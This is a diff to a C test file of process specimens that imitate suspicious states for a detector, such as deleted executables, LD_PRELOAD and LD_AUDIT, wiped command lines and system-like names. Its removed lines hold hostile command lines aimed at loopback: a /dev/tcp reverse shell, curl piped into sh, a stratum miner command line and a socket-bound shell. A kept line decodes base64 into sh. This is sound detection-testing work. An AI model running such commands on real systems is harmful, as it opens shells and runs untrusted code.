@@ -1,10 +1,8 @@
 /* SPDX-License-Identifier: MIT */
 #include "tests/specimens/specimen.h"
 
-#include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
-#include <netinet/in.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -12,11 +10,8 @@
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/sendfile.h>
-#include <sys/socket.h>
 #include <sys/stat.h>
 #include <unistd.h>
-
-enum { CONNECTIONS = 30 };
 
 extern char **environ;
 
@@ -33,7 +28,7 @@ static void copy_self_to(int target)
     close(self);
 }
 
-static void make_copy(struct stage *stage, const char *directory, const char *name)
+void specimen_copy(struct stage *stage, const char *directory, const char *name)
 {
     snprintf(stage->file, sizeof stage->file, "%s/%s", directory, name);
     int file = open(stage->file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
@@ -49,7 +44,7 @@ static void run_waiting(const char *path)
     specimen_skip(path); /* a noexec file system */
 }
 
-static void enter_copy(struct stage *stage)
+void specimen_enter_copy(struct stage *stage)
 {
     run_waiting(stage->file);
 }
@@ -63,7 +58,7 @@ static void enter_nothing(struct stage *stage)
 
 static void prepare_deleted(struct stage *stage)
 {
-    make_copy(stage, stage->directory, "unlinked");
+    specimen_copy(stage, stage->directory, "unlinked");
 }
 
 static void finish_deleted(struct stage *stage)
@@ -90,12 +85,12 @@ static void prepare_shm(struct stage *stage)
     char name[64];
 
     snprintf(name, sizeof name, "specimen-%d", (int)getpid());
-    make_copy(stage, "/dev/shm", name); /* expected by its place */
+    specimen_copy(stage, "/dev/shm", name); /* expected by its place */
 }
 
 static void prepare_writable(struct stage *stage)
 {
-    make_copy(stage, stage->directory, "writable");
+    specimen_copy(stage, stage->directory, "writable");
     if (chmod(stage->file, 0777) != 0)
         specimen_fail("chmod");
     stage_expect(stage, "world_writable_exe", "/writable");
@@ -130,26 +125,15 @@ static void finish_traced(struct stage *stage)
     stage_expect(stage, "ptraced", "%d", (int)getpid());
 }
 
-/* sh on a pipe that stays open: it waits for its first command's input. */
-static void run_shell(const char *command)
-{
-    int ends[2];
-
-    if (pipe(ends) != 0 || dup2(ends[0], STDIN_FILENO) < 0)
-        specimen_fail("pipe");
-    execl("/bin/sh", "sh", "-c", command, (char *)NULL);
-    specimen_fail("/bin/sh");
-}
-
 static void enter_served_shell(struct stage *stage)
 {
     (void)stage;
-    run_shell("read line; echo $line");
+    specimen_run_shell("read line; echo $line");
 }
 
 static void prepare_nginx(struct stage *stage)
 {
-    make_copy(stage, stage->directory, "nginx");
+    specimen_copy(stage, stage->directory, "nginx");
     stage_expect(stage, "unusual_parent", "nginx");
 }
 
@@ -178,7 +162,7 @@ static void enter_obfuscated(struct stage *stage)
 {
     stage_expect(stage, "obfuscated_cmdline", "base64 -d");
     stage_expect(stage, "decode_exec", "base64 -d");
-    run_shell("read line; echo ZWNobyBoYXJtbGVzcyBlbm91Z2g= | base64 -d | sh");
+    specimen_run_shell("read line; echo ZWNobyBoYXJtbGVzcyBlbm91Z2g= | base64 -d | sh");
 }
 
 static void enter_evaluating(struct stage *stage)
@@ -201,7 +185,7 @@ static void enter_renamed(struct stage *stage)
 
 static void prepare_hidden(struct stage *stage)
 {
-    make_copy(stage, stage->directory, ".hidden");
+    specimen_copy(stage, stage->directory, ".hidden");
     stage_expect(stage, "hidden_exe", "/.hidden");
 }
 
@@ -211,11 +195,29 @@ static void enter_wiped(struct stage *stage)
     for (char *next = program_invocation_name; next < environ[0]; next++)
         *next = '\0';
     stage_expect(stage, "empty_cmdline", "%s", "");
+    stage_expect(stage, "wiped_cmdline", "overwritten with NUL");
+}
+
+static void prepare_sshd(struct stage *stage)
+{
+    specimen_copy(stage, stage->directory, "sshd");
+    stage_expect(stage, "sysname_path", "/sshd");
+}
+
+static void enter_audited(struct stage *stage)
+{
+    char self[PATH_MAX] = "";
+
+    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
+        specimen_fail("/proc/self/exe");
+    setenv("LD_AUDIT", "libm.so.6", 1); /* ld.so complains, and goes on */
+    stage_expect(stage, "ld_audit", "libm.so.6");
+    run_waiting(self);
 }
 
 static void prepare_short(struct stage *stage)
 {
-    make_copy(stage, stage->directory, "x");
+    specimen_copy(stage, stage->directory, "x");
     stage_expect(stage, "short_cmdline", "%s", "");
 }
 
@@ -233,160 +235,27 @@ static void enter_busy(struct stage *stage)
         ;
 }
 
-/* --- connections: to ourselves, on loopback --- */
-
-static struct sockaddr_in loopback(uint16_t port)
-{
-    return (struct sockaddr_in){
-        .sin_family = AF_INET,
-        .sin_port = htons(port),
-        .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
-    };
-}
-
-static int listen_on(uint16_t port, uint16_t *ret_port)
-{
-    struct sockaddr_in address = loopback(port);
-    socklen_t length = sizeof address;
-    int one = 1;
-    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-
-    if (listener < 0)
-        specimen_skip("TCP");
-    /* Else a connection of the last run would keep the port for a minute. */
-    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
-    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 ||
-        listen(listener, CONNECTIONS) != 0 ||
-        getsockname(listener, (struct sockaddr *)&address, &length) != 0) {
-        close(listener);
-        return -1;
-    }
-    *ret_port = ntohs(address.sin_port);
-    return listener;
-}
-
-static int connect_to(uint16_t port, int flags)
-{
-    struct sockaddr_in address = loopback(port);
-    int connection = socket(AF_INET, SOCK_STREAM | flags, 0);
-
-    if (connection < 0 || connect(connection, (struct sockaddr *)&address, sizeof address) != 0)
-        specimen_fail("connect");
-    return connection;
-}
-
-/* The first of the ports that are watched by default which nobody has. */
-static void prepare_watched(struct stage *stage)
-{
-    static const uint16_t watched[] = {4444, 3333, 5555, 6666, 7777, 8888};
-
-    stage->listener = -1;
-    for (size_t i = 0; stage->listener < 0 && i < sizeof watched / sizeof watched[0]; i++)
-        stage->listener = listen_on(watched[i], &stage->port);
-    if (stage->listener < 0)
-        specimen_skip("every watched port is taken");
-}
-
-static void enter_socket_shell(struct stage *stage)
-{
-    int connection = connect_to(stage->port, 0);
-
-    for (int fd = STDIN_FILENO; fd <= STDERR_FILENO; fd++)
-        if (dup2(connection, fd) < 0)
-            specimen_fail("dup2");
-    if (connection > STDERR_FILENO)
-        close(connection);
-    stage_expect(stage, "watched_port", "127.0.0.1:%u", stage->port);
-    stage_expect(stage, "no_tty", "%s", "");
-    stage_expect(stage, "revshell_stdio", "127.0.0.1:%u", stage->port);
-    execl("/bin/sh", "sh", (char *)NULL);
-    specimen_fail("/bin/sh");
-}
-
-static void enter_holding_shell(struct stage *stage)
-{
-    connect_to(stage->port, 0);
-    close(stage->listener);
-    stage_expect(stage, "shell_conn", "127.0.0.1:%u", stage->port);
-    run_shell("read line; echo $line");
-}
-
-static void enter_listening_shell(struct stage *stage)
-{
-    uint16_t port;
-    int listener = listen_on(0, &port);
-
-    if (listener < 0 || fcntl(listener, F_SETFD, 0) != 0)
-        specimen_skip("no port to listen on");
-    stage_expect(stage, "listen_shell", "127.0.0.1:%u", port);
-    run_shell("read line; echo $line");
-}
-
-static void enter_wiring(struct stage *stage)
-{
-    stage_expect(stage, "revshell_cmdline", "/dev/tcp/");
-    run_shell("read line; exit; sh -i >& /dev/tcp/127.0.0.1/9 0>&1");
-}
-
-static void enter_fetching(struct stage *stage)
-{
-    stage_expect(stage, "pipe_exec", "curl into a shell");
-    run_shell("read line; exit; curl -s http://127.0.0.1:9/ | sh");
-}
-
-static void enter_mining(struct stage *stage)
-{
-    char self[PATH_MAX] = "";
-
-    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
-        specimen_fail("/proc/self/exe");
-    stage_expect(stage, "miner_cmdline", "stratum+tcp://");
-    execl(self, self, "wait", "stratum+tcp://127.0.0.1:9", (char *)NULL);
-    specimen_fail(self);
-}
-
-static void prepare_crowd(struct stage *stage)
-{
-    stage->listener = listen_on(0, &stage->port);
-    if (stage->listener < 0)
-        specimen_skip("no port to listen on");
-}
-
-static void enter_crowd(struct stage *stage)
-{
-    close(stage->listener);
-    for (int i = 0; i < CONNECTIONS; i++)
-        connect_to(stage->port, SOCK_CLOEXEC);
-    stage_expect(stage, "many_conns", "%d", CONNECTIONS);
-}
-
-const struct specimen specimens[] = {
-    {"plain",       "nothing: must stay clean",               NULL,             enter_nothing,         NULL          },
-    {"deleted",     "its executable was deleted",             prepare_deleted,  enter_copy,            finish_deleted},
-    {"memfd",       "runs from memory",                       NULL,             enter_memfd,           NULL          },
-    {"shm",         "runs from /dev/shm",                     prepare_shm,      enter_copy,            NULL          },
-    {"writable",    "anybody can write its executable",       prepare_writable, enter_copy,            NULL          },
-    {"wx",          "memory that is writable and executable", NULL,             enter_wx,              NULL          },
-    {"preload",     "LD_PRELOAD is set",                      NULL,             enter_preload,         NULL          },
-    {"traced",      "its parent traces it",                   NULL,             enter_nothing,         finish_traced },
-    {"nginx",       "a shell under nginx",                    prepare_nginx,    enter_nginx,           NULL          },
-    {"obfuscated",  "decodes and runs its command line",      NULL,             enter_obfuscated,      NULL          },
-    {"evaluating",  "evaluates code",                         NULL,             enter_evaluating,      NULL          },
-    {"renamed",     "says it is another program",             NULL,             enter_renamed,         NULL          },
-    {"wiped",       "wiped its command line",                 NULL,             enter_wiped,           NULL          },
-    {"hidden",      "its executable is a dot file",           prepare_hidden,   enter_copy,            NULL          },
-    {"loaded",      "the dynamic loader runs it",             NULL,             specimen_loaded,       NULL          },
-    {"descriptor",  "was started through a descriptor",       NULL,             specimen_descriptor,   NULL          },
-    {"script",      "its script is a memfd",                  NULL,             specimen_memfd_script, NULL          },
-    {"short",       "a name of one letter",                   prepare_short,    enter_short,           NULL          },
-    {"busy",        "uses a whole CPU",                       NULL,             enter_busy,            NULL          },
-    {"shell",       "a shell on a socket to a watched port",  prepare_watched,  enter_socket_shell,
-     NULL                                                                                                            },
-    {"holding",     "a shell with a connection",              prepare_crowd,    enter_holding_shell,   NULL          },
-    {"listening",   "a shell that listens",                   NULL,             enter_listening_shell, NULL          },
-    {"wiring",      "wires a shell to the network",           NULL,             enter_wiring,          NULL          },
-    {"fetching",    "runs what it downloads",                 NULL,             enter_fetching,        NULL          },
-    {"mining",      "a miner's command line",                 NULL,             enter_mining,          NULL          },
-    {"connections", "many outbound connections",              prepare_crowd,    enter_crowd,           NULL          },
+static const struct specimen rows[] = {
+    {"plain",      "nothing: must stay clean",               NULL,             enter_nothing,       NULL         },
+    {"deleted",    "its executable was deleted",             prepare_deleted,  specimen_enter_copy,
+     finish_deleted                                                                                              },
+    {"memfd",      "runs from memory",                       NULL,             enter_memfd,         NULL         },
+    {"shm",        "runs from /dev/shm",                     prepare_shm,      specimen_enter_copy, NULL         },
+    {"writable",   "anybody can write its executable",       prepare_writable, specimen_enter_copy,
+     NULL                                                                                                        },
+    {"wx",         "memory that is writable and executable", NULL,             enter_wx,            NULL         },
+    {"preload",    "LD_PRELOAD is set",                      NULL,             enter_preload,       NULL         },
+    {"traced",     "its parent traces it",                   NULL,             enter_nothing,       finish_traced},
+    {"nginx",      "a shell under nginx",                    prepare_nginx,    enter_nginx,         NULL         },
+    {"obfuscated", "decodes and runs its command line",      NULL,             enter_obfuscated,    NULL         },
+    {"evaluating", "evaluates code",                         NULL,             enter_evaluating,    NULL         },
+    {"renamed",    "says it is another program",             NULL,             enter_renamed,       NULL         },
+    {"wiped",      "wiped its command line",                 NULL,             enter_wiped,         NULL         },
+    {"hidden",     "its executable is a dot file",           prepare_hidden,   specimen_enter_copy, NULL         },
+    {"short",      "a name of one letter",                   prepare_short,    enter_short,         NULL         },
+    {"busy",       "uses a whole CPU",                       NULL,             enter_busy,          NULL         },
+    {"sshd",       "is named like a system program",         prepare_sshd,     specimen_enter_copy, NULL         },
+    {"audited",    "LD_AUDIT is set",                        NULL,             enter_audited,       NULL         },
 };
-const size_t specimen_count = sizeof specimens / sizeof specimens[0];
+
+const struct specimen_table specimens_states = {rows, sizeof rows / sizeof *rows};
